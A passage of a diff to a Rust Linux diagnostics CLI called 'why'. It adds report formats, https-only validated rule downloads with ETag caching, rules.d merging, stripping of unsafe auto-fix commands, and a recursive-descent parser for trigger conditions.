+    let mut resolved_rules = Vec::new();
+    if cli.only_changed {
+        let previous = previous_ids.clone().unwrap_or_default();
+        (findings, resolved_rules) = changed_findings(&previous, findings);
+    }
+
+    let machine_id = if cli.machine_id {
+        read_machine_id(cli.redact)
+    } else {
+        None
+    };
 
     // Handle snapshot mode (early return)
     if cli.snapshot {
-        return generate_snapshot(&metrics, &findings);
+        return generate_snapshot(
+            &metrics,
+            &findings,
+            machine_id.as_deref(),
+            cli.output_dir.as_deref(),
+            cli.compact,
+        );
     }
 
-    match command {
-        Commands::All => show_dashboard(&findings, &metrics),
-        Commands::Cpu => filter_show("CPU", &findings),
-        Commands::Mem => filter_show("RAM", &findings),
-        Commands::Disk => filter_show("Disk", &findings),
-        Commands::Battery => filter_show("Battery", &findings),
-        Commands::Net => filter_show("Net", &findings),
-        Commands::Crash => show_crashes()?,
-        Commands::Historical => show_historical()?,
-        Commands::Wifi => why_wifi()?,
-        Commands::Bluetooth => why_bluetooth()?,
-        Commands::Fan => why_fan(&sys, &metrics)?,
-        Commands::Hot => why_hot(&metrics)?,
-        Commands::Update => why_update()?,
-        Commands::Boot => why_boot()?,
-        Commands::BootCritical => why_boot_critical()?,
-        Commands::Gpu => why_gpu(&metrics)?,
-        Commands::Gaming => why_gaming(&metrics)?,
-        Commands::Slow => why_slow(&sys, &metrics, &findings)?,
-        Commands::Storage => why_storage(&metrics)?,
-        Commands::Security => why_security()?,
-        Commands::Rca => why_rca(&metrics)?,
-        Commands::KubeNode => why_kube_node()?,
-        Commands::CheckDeps => deps::check_deps()?,
-    }
+    // History and snapshots keep everything; only what is shown is filtered
+    retain_min_severity(&mut findings, cli.min_severity);
+    let status = if cli.exit_code {
+        exit_code(&findings)
+    } else {
+        EXIT_CLEAN
+    };
 
-    for finding in findings.iter().take(3) {
-        if let Some(cmd) = &finding.auto_fix {
-            if !is_safe_auto_fix(cmd) {
-                continue;
+    // Non-table formats print the findings once and skip the interactive handlers
+    if cli.format != OutputFormat::Table {
+        let sections = if reports_sections(&command) {
+            capture_sections(|| run_command(command, &sys, &metrics, &findings))?
+        } else {
+            Vec::new()
+        };
+        let rendered = output::render(
+            cli.format,
+            &findings,
+            &metrics,
+            &sections,
+            machine_id.as_deref(),
+            cli.compact,
+        )?;
+        match cli.output_dir.as_deref() {
+            Some(dir) if cli.format == OutputFormat::Md => {
+                let timestamp = chrono::Utc::now().to_rfc3339();
+                let file_name = format!("why-report-{}.md", timestamp.replace(':', "-"));
+                let path = write_output_file(Some(dir), &file_name, &rendered)?;
+                println!(
+                    "{}",
+                    t!("report_written").replace("{path}", &path.display().to_string())
+                );
             }
+            _ => print!("{rendered}"),
+        }
+        exit_with(status);
+        return Ok(());
+    }
+
+    if cli.only_changed {
+        show_changed_findings(&findings, &resolved_rules, previous_ids.is_none());
+        exit_with(status);
+        return Ok(());
+    }
 
+    run_command(command, &sys, &metrics, &findings)?;
+
+    let fixes = offered_fixes(&findings);
+    if cli.dry_run {
+        show_dry_run_fixes(&fixes);
+    } else {
+        for (finding, cmd) in fixes {
             if Confirm::with_theme(&ColorfulTheme::default())
                 .with_prompt(t!("apply_fix_prompt", message = finding.message.clone()))
                 .default(false)
                 .interact()?
             {
                 println!("{}", t!("running_fix").replace("{cmd}", cmd).green());
-                Command::new("sh")
+                let status = Command::new("sh")
                     .arg("-c")
                     .arg(cmd)
                     .status()
                     .context(t!("fix_failed"))?;
+                // Exit code, or the signal name when there is none
+                let status = status
+                    .code()
+                    .map_or_else(|| status.to_string(), |code| code.to_string());
+                let line = fix_log_line(&Utc::now().to_rfc3339(), &finding.rule_name, cmd, &status);
+                // The fix already ran; a log that cannot be written must not hide that
+                if let Err(err) = append_fix_log(&fixes_log_path(), &line) {
+                    eprintln!(
+                        "{}",
+                        t!("fixes_log_failed")
+                            .replace("{error}", &format!("{err:#}"))
+                            .yellow()
+                    );
+                }
             }
         }
     }
@@ -350,19 +1074,67 @@ fn main() -> Result<()> {
         || env::var("RUST_LOG").unwrap_or_default().contains("debug")
     {
         eprintln!("⏱️  Execution time: {:.0}ms", elapsed.as_millis());
-        if elapsed.as_millis() > PERFORMANCE_TARGET_MS {
+        // The CPU sampling window is a fixed cost on top of the target
+        let target_ms = config::config().thresholds.performance_target_ms
+            + if cpu_sampled {
+                sysinfo::MINIMUM_CPU_UPDATE_INTERVAL.as_millis() as u64
+            } else {
+                0
+            };
+        if elapsed.as_millis() > u128::from(target_ms) {
             eprintln!(
                 "⚠️  Warning: Exceeded {}ms target ({:.0}ms)",
-                PERFORMANCE_TARGET_MS,
+                target_ms,
                 elapsed.as_millis()
             );
         }
     }
 
+    exit_with(status);
     Ok(())
 }
 
-fn update_rules_from_remote() -> Result<()> {
+/// `--rules-url`, then `WHY_RULES_URL`, then the upstream rules file.
+/// Downloaded rules carry auto_fix commands, so only https is accepted.
+fn rules_url(flag: Option<&str>, env_value: Option<&str>) -> Result<String> {
+    if flag.is_some_and(|url| url.trim().is_empty()) {
+        return Err(anyhow!(t!("rules_url_empty")));
+    }
+    let url = flag
+        .or(env_value.filter(|url| !url.trim().is_empty()))
+        .unwrap_or(RULES_REMOTE_URL)
+        .trim();
+    if !url.to_ascii_lowercase().starts_with("https://") {
+        return Err(anyhow!(t!("rules_url_not_https").replace("{url}", url)));
+    }
+    Ok(url.to_string())
+}
+
+fn rules_validators_path() -> PathBuf {
+    let mut path = cache_dir();
+    path.push(RULES_VALIDATORS_FILE);
+    path
+}
+
+/// HTTP validators of the last downloaded rules, for conditional requests
+#[derive(serde::Serialize, Deserialize, Default, Debug, PartialEq)]
+struct RulesValidators {
+    url: String,
+    etag: Option<String>,
+    last_modified: Option<String>,
+}
+
+fn load_rules_validators(url: &str) -> Option<RulesValidators> {
+    if !Path::new(RULES_PATH).exists() {
+        return None;
+    }
+    let data = fs::read_to_string(rules_validators_path()).ok()?;
+    let validators: RulesValidators = serde_json::from_str(&data).ok()?;
+    (validators.url == url).then_some(validators)
+}
+
+fn update_rules_from_remote(url: &str) -> Result<()> {
+    use reqwest::header::{ETAG, IF_MODIFIED_SINCE, IF_NONE_MATCH, LAST_MODIFIED};
     use std::time::Duration;
 
     // Create HTTP client with 10-second timeout
@@ -371,17 +1143,63 @@ fn update_rules_from_remote() -> Result<()> {
         .build()
         .context("Failed to create HTTP client")?;
 
-    let response = client
-        .get(RULES_REMOTE_URL)
-        .send()
-        .context("Failed to download remote rules")?
+    let mut request = client.get(url);
+    if let Some(cached) = load_rules_validators(url) {
+        if let Some(etag) = &cached.etag {
+            request = request.header(IF_NONE_MATCH, etag);
+        }
+        if let Some(modified) = &cached.last_modified {
+            request = request.header(IF_MODIFIED_SINCE, modified);
+        }
+    }
+    let response = request.send().context("Failed to download remote rules")?;
+    if response.status() == reqwest::StatusCode::NOT_MODIFIED {
+        println!("{}", t!("rules_up_to_date").to_string().green());
+        return Ok(());
+    }
+    let response = response
         .error_for_status()
         .context("Remote rules endpoint returned error")?;
+    let header = |name| {
+        response
+            .headers()
+            .get(name)
+            .and_then(|value| value.to_str().ok())
+            .map(str::to_string)
+    };
+    let validators = RulesValidators {
+        url: url.to_string(),
+        etag: header(ETAG),
+        last_modified: header(LAST_MODIFIED),
+    };
     let contents = response.text().context("Failed to read remote rules")?;
 
+    validate_remote_rules(&contents)?;
+
+    fs::write(Path::new(RULES_PATH), &contents).context("Unable to write rules file")?;
+    // Without validators the next run simply downloads again
+    let validators_path = rules_validators_path();
+    if validators.etag.is_some() || validators.last_modified.is_some() {
+        if let Some(parent) = validators_path.parent() {
+            let _ = fs::create_dir_all(parent);
+        }
+        let _ = fs::write(
+            &validators_path,
+            serde_json::to_string(&validators).unwrap_or_default(),
+        );
+    } else {
+        let _ = fs::remove_file(&validators_path);
+    }
+    println!("{}", t!("rules_updated").to_string().green());
+    Ok(())
+}
+
+/// Reject downloaded rules that do not parse, are empty or carry an auto_fix
+/// outside the whitelist; nothing is written in that case
+fn validate_remote_rules(contents: &str) -> Result<RulesFile> {
     // Validate TOML structure before writing
     let parsed: RulesFile =
-        toml::from_str(&contents).context("Remote rules file is invalid TOML")?;
+        toml::from_str(contents).context("Remote rules file is invalid TOML")?;
 
     if parsed.rule.is_empty() {
         return Err(anyhow!("Remote rules file contains no rules"));
@@ -399,10 +1217,7 @@ fn update_rules_from_remote() -> Result<()> {
             }
         }
     }
-
-    fs::write(Path::new(RULES_PATH), &contents).context("Unable to write rules file")?;
-    println!("{}", t!("rules_updated").to_string().green());
-    Ok(())
+    Ok(parsed)
 }
 
 fn load_rules() -> Result<Vec<Rule>> {
@@ -415,147 +1230,821 @@ fn load_rules() -> Result<Vec<Rule>> {
     Ok(parsed.rule)
 }
 
-fn parse_trigger(trigger: &str) -> Vec<Condition> {
-    trigger
-        .split("&&")
-        .filter_map(|token| parse_condition(token.trim()))
+/// Rules of every `*.toml` file in `dir`, by file name, tagged with the file
+fn load_rules_dir(dir: &Path) -> Result<Vec<(PathBuf, Vec<Rule>)>> {
+    let mut paths: Vec<PathBuf> = fs::read_dir(dir)
+        .with_context(|| format!("Unable to read {}", dir.display()))?
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|path| path.is_file() && path.extension().is_some_and(|ext| ext == "toml"))
+        .collect();
+    paths.sort();
+    paths
+        .into_iter()
+        .map(|path| {
+            let data = fs::read_to_string(&path)
+                .with_context(|| format!("Unable to read {}", path.display()))?;
+            let parsed: RulesFile = toml::from_str(&data)
+                .with_context(|| format!("{} is invalid – check syntax", path.display()))?;
+            Ok((path, parsed.rule))
+        })
         .collect()
 }
 
-fn parse_condition(token: &str) -> Option<Condition> {
-    if token.is_empty() {
-        return None;
+#[derive(Debug, PartialEq)]
+struct RuleCollision {
+    name: String,
+    /// File of the overridden definition, `None` for rules.toml
+    previous: Option<PathBuf>,
+    replacement: PathBuf,
+}
+
+/// Append rules.d rules to the base set. A rule named like an earlier one
+/// replaces it (later files win, like systemd drop-ins); each is reported.
+fn merge_rules(
+    base: Vec<Rule>,
+    extra: Vec<(PathBuf, Vec<Rule>)>,
+) -> (Vec<Rule>, Vec<RuleCollision>) {
+    let mut merged: Vec<(Option<PathBuf>, Rule)> =
+        base.into_iter().map(|rule| (None, rule)).collect();
+    let mut collisions = Vec::new();
+    for (path, rules) in extra {
+        for rule in rules {
+            match merged
+                .iter_mut()
+                .find(|(_, existing)| existing.name == rule.name)
+            {
+                Some(slot) => {
+                    collisions.push(RuleCollision {
+                        name: rule.name.clone(),
+                        previous: slot.0.replace(path.clone()),
+                        replacement: path.clone(),
+                    });
+                    slot.1 = rule;
+                }
+                None => merged.push((Some(path.clone()), rule)),
+            }
+        }
     }
-    if let Some(value) = token.strip_prefix("cpu>") {
-        return value.trim().parse().ok().map(Condition::CpuGreater);
+    (
+        merged.into_iter().map(|(_, rule)| rule).collect(),
+        collisions,
+    )
+}
+
+/// `/etc/why/rules.d/` then `~/.config/why/rules.d/`, so user rules override
+/// system-wide ones
+fn default_rules_dirs() -> Vec<PathBuf> {
+    std::iter::once(PathBuf::from(SYSTEM_RULES_DIR))
+        .chain(user_home_dir().map(|home| home.join(RULES_DIR)))
+        .filter(|dir| dir.is_dir())
+        .collect()
+}
+
+/// Drop auto_fix commands that fail `is_safe_auto_fix`, keeping the rules;
+/// returns the names of the affected rules
+fn strip_unsafe_auto_fixes(rules: &mut [Rule]) -> Vec<String> {
+    rules
+        .iter_mut()
+        .filter(|rule| {
+            rule.auto_fix
+                .as_deref()
+                .is_some_and(|cmd| !is_safe_auto_fix(cmd))
+        })
+        .map(|rule| {
+            rule.auto_fix = None;
+            rule.name.clone()
+        })
+        .collect()
+}
+
+/// rules.toml plus `--rules-dir`, or the default rules.d directories that exist
+fn load_all_rules(rules_dir: Option<&Path>) -> Result<Vec<Rule>> {
+    let base = load_rules()?;
+    let dirs = match rules_dir {
+        Some(dir) => vec![dir.to_path_buf()],
+        None => default_rules_dirs(),
+    };
+    let mut extra = Vec::new();
+    for dir in &dirs {
+        extra.extend(load_rules_dir(dir)?);
     }
-    if let Some(value) = token.strip_prefix("mem>") {
-        return value.trim().parse().ok().map(Condition::MemGreater);
+    let (mut rules, collisions) = merge_rules(base, extra);
+    for collision in &collisions {
+        let previous = collision
+            .previous
+            .as_ref()
+            .map_or_else(|| RULES_PATH.to_string(), |path| path.display().to_string());
+        eprintln!(
+            "{}",
+            t!("rules_dir_collision")
+                .replace("{rule}", &collision.name)
+                .replace("{previous}", &previous)
+                .replace("{file}", &collision.replacement.display().to_string())
+                .yellow()
+        );
     }
-    if let Some(value) = token.strip_prefix("total_ram<") {
-        return value.trim().parse().ok().map(Condition::TotalRamLess);
+    for name in strip_unsafe_auto_fixes(&mut rules) {
+        eprintln!(
+            "{}",
+            t!("rules_unsafe_auto_fix")
+                .replace("{rule}", &name)
+                .yellow()
+        );
     }
-    if let Some(process) = token.strip_prefix("process=") {
-        return Some(Condition::ProcessContains(process.trim().to_string()));
+    Ok(rules)
+}
+
+/// Trigger tokens that no condition parser accepts (silently ignored at runtime)
+fn invalid_trigger_tokens(trigger: &str) -> Vec<String> {
+    let mut parser = TriggerParser::new(trigger);
+    parser.parse();
+    parser.invalid
+}
+
+#[derive(Debug, PartialEq)]
+enum RuleOverlap {
+    /// Both rules have the same set of conditions
+    Duplicate { first: String, second: String },
+    /// `narrow` has every condition of `broad` plus more, so it never fires alone
+    Subsumed { broad: String, narrow: String },
+}
+
+/// Required conditions of a trigger as a set, keyed by their parsed form so
+/// order, whitespace, parentheses and value case do not matter. A top-level
+/// `||` is kept whole: its conditions are not all required.
+fn trigger_token_set(trigger: &str) -> std::collections::BTreeSet<String> {
+    match parse_trigger(trigger) {
+        Trigger::All(children) => children.iter().map(|child| format!("{child:?}")).collect(),
+        whole => std::iter::once(format!("{whole:?}")).collect(),
     }
-    if let Some(value) = token.strip_prefix("process_count>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::ProcessCountGreater);
-    }
-    if let Some(value) = token.strip_prefix("log_contains=") {
-        return Regex::new(value.trim()).ok().map(Condition::LogContains);
-    }
-    if let Some(value) = token.strip_prefix("disk_full>") {
-        return value.trim().parse().ok().map(Condition::DiskFullGreater);
-    }
-    if let Some(value) = token.strip_prefix("snap loops>") {
-        return value.trim().parse().ok().map(Condition::SnapLoopsGreater);
-    }
-    if let Some(value) = token.strip_prefix("flatpak_unused>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::FlatpakUnusedGreater);
-    }
-    if let Some(value) = token.strip_prefix("battery_drain>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::BatteryDrainGreater);
-    }
-    if let Some(value) = token.strip_prefix("wifi_channel_count>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::WifiChannelCountGreater);
-    }
-    if let Some(value) = token.strip_prefix("wifi_signal<") {
-        return value.trim().parse().ok().map(Condition::WifiSignalLess);
-    }
-    if let Some(value) = token.strip_prefix("fan_speed>") {
-        return value.trim().parse().ok().map(Condition::FanSpeedGreater);
-    }
-    if let Some(value) = token.strip_prefix("temp>") {
-        return value.trim().parse().ok().map(Condition::TemperatureGreater);
-    }
-    if let Some(value) = token.strip_prefix("filesystem=") {
-        return Some(Condition::FilesystemEquals(value.trim().to_string()));
+}
+
+fn lint_rules(rules: &[Rule]) -> Vec<RuleOverlap> {
+    let sets: Vec<_> = rules
+        .iter()
+        .map(|r| trigger_token_set(&r.trigger))
+        .collect();
+    let mut overlaps = Vec::new();
+    for (i, first) in sets.iter().enumerate() {
+        for (j, second) in sets.iter().enumerate().skip(i + 1) {
+            if first.is_empty() || second.is_empty() {
+                continue;
+            }
+            let (a, b) = (rules[i].name.clone(), rules[j].name.clone());
+            if first == second {
+                overlaps.push(RuleOverlap::Duplicate {
+                    first: a,
+                    second: b,
+                });
+            } else if first.is_subset(second) {
+                overlaps.push(RuleOverlap::Subsumed {
+                    broad: a,
+                    narrow: b,
+                });
+            } else if second.is_subset(first) {
+                overlaps.push(RuleOverlap::Subsumed {
+                    broad: b,
+                    narrow: a,
+                });
+            }
+        }
     }
-    if let Some(value) = token.strip_prefix("wayland_vs_x11=") {
-        return Some(Condition::WaylandVsX11(value.trim().to_string()));
+    overlaps
+}
+
+/// `why config-check`: report triggers that do not parse, and with `--lint`
+/// rules that would produce duplicate findings
+fn config_check(rules: &[Rule], lint: bool) -> Result<()> {
+    let mut invalid = 0;
+    let mut lines = Vec::new();
+    for rule in rules {
+        for token in invalid_trigger_tokens(&rule.trigger) {
+            invalid += 1;
+            lines.push(InsightLine {
+                level: InsightLevel::Critical,
+                message: t!("config_check_invalid_token")
+                    .replace("{rule}", &rule.name)
+                    .replace("{token}", &token),
+            });
+        }
     }
-    if let Some(value) = token.strip_prefix("docker_dangling>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::DockerDanglingGreater);
+    if lines.is_empty() {
+        lines.push(InsightLine {
+            level: InsightLevel::Good,
+            message: t!("config_check_rules_ok").replace("{count}", &rules.len().to_string()),
+        });
     }
-    if let Some(value) = token.strip_prefix("pipewire_latency>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::PipewireLatencyGreater);
+    for name in unclassified_rules(rules) {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("config_check_unclassified").replace("{rule}", name),
+        });
     }
-    if let Some(value) = token.strip_prefix("firefox_soft_render=") {
-        return parse_bool_token(value).map(Condition::FirefoxSoftRender);
+    let triggers_header = t!("config_check_triggers_header").to_string();
+    print_section(&triggers_header, Ok(lines));
+
+    if lint {
+        let lint_lines: Vec<InsightLine> = lint_rules(rules)
+            .into_iter()
+            .map(|overlap| InsightLine {
+                level: InsightLevel::Warning,
+                message: match overlap {
+                    RuleOverlap::Duplicate { first, second } => t!("config_check_duplicate")
+                        .replace("{first}", &first)
+                        .replace("{second}", &second),
+                    RuleOverlap::Subsumed { broad, narrow } => t!("config_check_subsumed")
+                        .replace("{broad}", &broad)
+                        .replace("{narrow}", &narrow),
+                },
+            })
+            .collect();
+        let lint_header = t!("config_check_lint_header").to_string();
+        let section = if lint_lines.is_empty() {
+            Ok(vec![InsightLine {
+                level: InsightLevel::Good,
+                message: t!("config_check_lint_clean").to_string(),
+            }])
+        } else {
+            Ok(lint_lines)
+        };
+        print_section(&lint_header, section);
     }
-    if let Some(value) = token.strip_prefix("zfs_arc_full>") {
-        return value
-            .trim()
-            .parse()
-            .ok()
-            .map(Condition::ZfsArcPercentGreater);
+
+    if invalid > 0 {
+        return Err(anyhow!(
+            "{invalid} invalid trigger condition(s) in rules.toml"
+        ));
     }
-    if let Some(value) = token.strip_prefix("luks_devices>") {
-        return value.trim().parse().ok().map(Condition::LuksDevicesGreater);
+    Ok(())
+}
+
+/// Parse a trigger such as `cpu>90 || (mem>80 && process=java)`. Conditions
+/// that do not parse, and operators left dangling by them, are dropped.
+fn parse_trigger(trigger: &str) -> Trigger {
+    TriggerParser::new(trigger).parse()
+}
+
+/// Recursive-descent parser over the trigger text
+struct TriggerParser<'a> {
+    rest: &'a str,
+    /// Operands that `parse_condition` rejected
+    invalid: Vec<String>,
+}
+
+impl<'a> TriggerParser<'a> {
+    fn new(trigger: &'a str) -> Self {
+        TriggerParser {
+            rest: trigger,
+            invalid: Vec::new(),
+        }
     }
-    if let Some(value) = token.strip_prefix("gpu_vendor=") {
-        return Some(Condition::GpuVendorEquals(
-            value.trim().to_ascii_lowercase(),
-        ));
+
+    fn parse(&mut self) -> Trigger {
+        let mut parts = Vec::new();
+        loop {
+            parts.extend(self.parse_or());
+            self.rest = self.rest.trim_start();
+            // Only an unmatched `)` stops parse_or early; skip it
+            match self.rest.strip_prefix(')') {
+                Some(rest) => self.rest = rest,
+                None => break,
+            }
+        }
+        Trigger::all(parts)
     }
-    if let Some(value) = token.strip_prefix("gpu_temp>") {
-        return value.trim().parse().ok().map(Condition::GpuTempGreater);
+
+    fn eat(&mut self, token: &str) -> bool {
+        match self.rest.trim_start().strip_prefix(token) {
+            Some(rest) => {
+                self.rest = rest;
+                true
+            }
+            None => false,
+        }
     }
-    if let Some(value) = token.strip_prefix("gpu_temp<") {
-        return value.trim().parse().ok().map(Condition::GpuTempLess);
+
+    fn parse_or(&mut self) -> Option<Trigger> {
+        let mut any: Vec<Trigger> = self.parse_and().into_iter().collect();
+        while self.eat("||") {
+            any.extend(self.parse_and());
+        }
+        (!any.is_empty()).then(|| Trigger::any(any))
     }
-    if let Some(value) = token.strip_prefix("gpu_util>") {
-        return value.trim().parse().ok().map(Condition::GpuUtilGreater);
+
+    fn parse_and(&mut self) -> Option<Trigger> {
+        let mut all: Vec<Trigger> = self.parse_operand().into_iter().collect();
+        while self.eat("&&") {
+            all.extend(self.parse_operand());
+        }
+        (!all.is_empty()).then(|| Trigger::all(all))
     }
-    if let Some(value) = token.strip_prefix("gpu_mem_util>") {
-        return value.trim().parse().ok().map(Condition::GpuMemUtilGreater);
+
+    fn parse_operand(&mut self) -> Option<Trigger> {
+        if self.eat("(") {
+            let inner = self.parse_or();
+            // A missing `)` closes at the end of the trigger
+            self.eat(")");
+            return inner;
+        }
+        // The operand runs to the next top-level operator or unmatched `)`;
+        // balanced parentheses inside it (a log_contains regex) are kept
+        let mut depth = 0usize;
+        let mut end = self.rest.len();
+        for (idx, ch) in self.rest.char_indices() {
+            let operator = self.rest[idx..].starts_with("&&") || self.rest[idx..].starts_with("||");
+            match ch {
+                '(' => depth += 1,
+                ')' if depth == 0 => {
+                    end = idx;
+                    break;
+                }
+                ')' => depth -= 1,
+                _ if depth == 0 && operator => {
+                    end = idx;
+                    break;
+                }
+                _ => {}
+            }
+        }
+        let token = self.rest[..end].trim();
+        self.rest = &self.rest[end..];
+        let condition = parse_condition(token);
+        if condition.is_none() {
+            self.invalid.push(token.to_string());
+        }
+        condition.map(Trigger::Condition)
     }
-    if let Some(value) = token.strip_prefix("prime_offload=") {
-        return Some(Condition::PrimeOffloadEquals(
-            value.trim().to_ascii_lowercase(),
+}
+
+/// One trigger condition: `parse_condition` and `--list-conditions` both
+/// read it from `CONDITIONS`
+struct ConditionSpec {
+    /// Literal prefix matched by the parser
+    token: &'static str,
+    example: &'static str,
+    argument: &'static str,
+    description: &'static str,
+    /// Parses the rest of the token after `token`
+    parse: fn(&str) -> Option<Condition>,
+}
+
+/// Every trigger condition. The order only matters for `--list-conditions`:
+/// the parser picks the longest matching prefix.
+const CONDITIONS: &[ConditionSpec] = &[
+    ConditionSpec {
+        token: "env[",
+        example: "env[HOME]=/root",
+        argument: "VAR, text",
+        description: "Environment variable of the why process has exactly this value",
+        parse: parse_env_equals,
+    },
+    ConditionSpec {
+        token: "env_set[",
+        example: "env_set[WAYLAND_DISPLAY]=true",
+        argument: "VAR, bool",
+        description: "Environment variable is set (false: unset)",
+        parse: parse_env_set,
+    },
+    ConditionSpec {
+        token: "cpu>",
+        example: "cpu>80",
+        argument: "number",
+        description: "CPU usage above N%",
+        parse: |value| number(value).map(Condition::CpuGreater),
+    },
+    ConditionSpec {
+        token: "cpu<",
+        example: "cpu<5",
+        argument: "number",
+        description: "CPU usage below N%",
+        parse: |value| number(value).map(Condition::CpuLess),
+    },
+    ConditionSpec {
+        token: "mem>",
+        example: "mem>90",
+        argument: "number",
+        description: "RAM usage above N%",
+        parse: |value| number(value).map(Condition::MemGreater),
+    },
+    ConditionSpec {
+        token: "mem<",
+        example: "mem<20",
+        argument: "number",
+        description: "RAM usage below N%",
+        parse: |value| number(value).map(Condition::MemLess),
+    },
+    ConditionSpec {
+        token: "total_ram<",
+        example: "total_ram<4096",
+        argument: "number",
+        description: "Total RAM below N MB",
+        parse: |value| number(value).map(Condition::TotalRamLess),
+    },
+    ConditionSpec {
+        token: "total_ram>",
+        example: "total_ram>16384",
+        argument: "number",
+        description: "Total RAM above N MB",
+        parse: |value| number(value).map(Condition::TotalRamGreater),
+    },
+    ConditionSpec {
+        token: "swap>",
+        example: "swap>50",
+        argument: "number",
+        description: "Swap usage above N% (0% without swap)",
+        parse: |value| number(value).map(Condition::SwapGreater),
+    },
+    ConditionSpec {
+        token: "loadavg>",
+        example: "loadavg>8",
+        argument: "number",
+        description: "1-minute load average above N",
+        parse: |value| number(value).map(Condition::LoadAvgGreater),
+    },
+    ConditionSpec {
+        token: "process_mem_pct[",
+        example: "process_mem_pct[firefox]>25",
+        argument: "name, number",
+        description: "Processes matching name use more than N% of RAM together",
+        parse: parse_process_mem_percent,
+    },
+    ConditionSpec {
+        token: "process=",
+        example: "process=chrome",
+        argument: "text",
+        description: "A process name contains text",
+        parse: |process| Some(Condition::ProcessContains(process.trim().to_string())),
+    },
+    ConditionSpec {
+        token: "process_count>",
+        example: "process_count>200",
+        argument: "number",
+        description: "More than N processes running",
+        parse: |value| number(value).map(Condition::ProcessCountGreater),
+    },
+    ConditionSpec {
+        token: "log_contains=",
+        example: "log_contains=I/O error",
+        argument: "regex",
+        description: "Recent journal/dmesg lines match the regex",
+        parse: |value| Regex::new(value.trim()).ok().map(Condition::LogContains),
+    },
+    ConditionSpec {
+        token: "disk_full>",
+        example: "disk_full>85",
+        argument: "number",
+        description: "Root partition above N% full",
+        parse: |value| number(value).map(Condition::DiskFullGreater),
+    },
+    ConditionSpec {
+        token: "inodes_full>",
+        example: "inodes_full>90",
+        argument: "number",
+        description: "Root partition uses more than N% of its inodes",
+        parse: |value| number(value).map(Condition::InodeFullGreater),
+    },
+    ConditionSpec {
+        token: "snap loops>",
+        example: "snap loops>50",
+        argument: "number",
+        description: "More than N snap loop devices",
+        parse: |value| number(value).map(Condition::SnapLoopsGreater),
+    },
+    ConditionSpec {
+        token: "flatpak_unused>",
+        example: "flatpak_unused>10",
+        argument: "number",
+        description: "More than N unused Flatpak runtimes",
+        parse: |value| number(value).map(Condition::FlatpakUnusedGreater),
+    },
+    ConditionSpec {
+        token: "battery_drain>",
+        example: "battery_drain>15",
+        argument: "number",
+        description: "Battery draining faster than N W",
+        parse: |value| number(value).map(Condition::BatteryDrainGreater),
+    },
+    ConditionSpec {
+        token: "wifi_channel_count>",
+        example: "wifi_channel_count>3",
+        argument: "number",
+        description: "More than N Wi-Fi networks on the same channel",
+        parse: |value| number(value).map(Condition::WifiChannelCountGreater),
+    },
+    ConditionSpec {
+        token: "wifi_signal<",
+        example: "wifi_signal<-70",
+        argument: "number",
+        description: "Wi-Fi signal weaker than N dBm",
+        parse: |value| number(value).map(Condition::WifiSignalLess),
+    },
+    ConditionSpec {
+        token: "fan_speed>",
+        example: "fan_speed>3000",
+        argument: "number",
+        description: "Fan speed above N RPM",
+        parse: |value| number(value).map(Condition::FanSpeedGreater),
+    },
+    ConditionSpec {
+        token: "temp>",
+        example: "temp>80",
+        argument: "number",
+        description: "Hottest sensor above N °C",
+        parse: |value| number(value).map(Condition::TemperatureGreater),
+    },
+    ConditionSpec {
+        token: "filesystem=",
+        example: "filesystem=btrfs",
+        argument: "text",
+        description: "Root filesystem type",
+        parse: |value| Some(Condition::FilesystemEquals(value.trim().to_string())),
+    },
+    ConditionSpec {
+        token: "wayland_vs_x11=",
+        example: "wayland_vs_x11=x11",
+        argument: "text",
+        description: "Session type (wayland or x11)",
+        parse: |value| Some(Condition::WaylandVsX11(value.trim().to_string())),
+    },
+    ConditionSpec {
+        token: "docker_dangling>",
+        example: "docker_dangling>5",
+        argument: "number",
+        description: "More than N dangling Docker images",
+        parse: |value| number(value).map(Condition::DockerDanglingGreater),
+    },
+    ConditionSpec {
+        token: "pipewire_latency>",
+        example: "pipewire_latency>40",
+        argument: "number",
+        description: "PipeWire latency above N ms",
+        parse: |value| number(value).map(Condition::PipewireLatencyGreater),
+    },
+    ConditionSpec {
+        token: "firefox_soft_render=",
+        example: "firefox_soft_render=true",
+        argument: "bool",
+        description: "Firefox renders without GPU acceleration",
+        parse: |value| parse_bool_token(value).map(Condition::FirefoxSoftRender),
+    },
+    ConditionSpec {
+        token: "zfs_arc_full>",
+        example: "zfs_arc_full>90",
+        argument: "number",
+        description: "ZFS ARC above N% of its maximum",
+        parse: |value| number(value).map(Condition::ZfsArcPercentGreater),
+    },
+    ConditionSpec {
+        token: "luks_devices>",
+        example: "luks_devices>0",
+        argument: "number",
+        description: "More than N LUKS devices open",
+        parse: |value| number(value).map(Condition::LuksDevicesGreater),
+    },
+    ConditionSpec {
+        token: "gpu_vendor=",
+        example: "gpu_vendor=nvidia",
+        argument: "text",
+        description: "GPU vendor (nvidia, amd, intel)",
+        parse: |value| {
+            Some(Condition::GpuVendorEquals(
+                value.trim().to_ascii_lowercase(),
+            ))
+        },
+    },
+    ConditionSpec {
+        token: "gpu_temp>",
+        example: "gpu_temp>85",
+        argument: "number",
+        description: "GPU temperature above N °C",
+        parse: |value| number(value).map(Condition::GpuTempGreater),
+    },
+    ConditionSpec {
+        token: "gpu_temp<",
+        example: "gpu_temp<30",
+        argument: "number",
+        description: "GPU temperature below N °C",
+        parse: |value| number(value).map(Condition::GpuTempLess),
+    },
+    ConditionSpec {
+        token: "gpu_util>",
+        example: "gpu_util>95",
+        argument: "number",
+        description: "GPU utilization above N%",
+        parse: |value| number(value).map(Condition::GpuUtilGreater),
+    },
+    ConditionSpec {
+        token: "gpu_mem_util>",
+        example: "gpu_mem_util>85",
+        argument: "number",
+        description: "VRAM usage above N%",
+        parse: |value| number(value).map(Condition::GpuMemUtilGreater),
+    },
+    ConditionSpec {
+        token: "gpu_mem_used_mb>",
+        example: "gpu_mem_used_mb>7000",
+        argument: "number",
+        description: "More than N MB of VRAM in use",
+        parse: |value| number(value).map(Condition::GpuMemUsedGreater),
+    },
+    ConditionSpec {
+        token: "prime_offload=",
+        example: "prime_offload=disabled",
+        argument: "text",
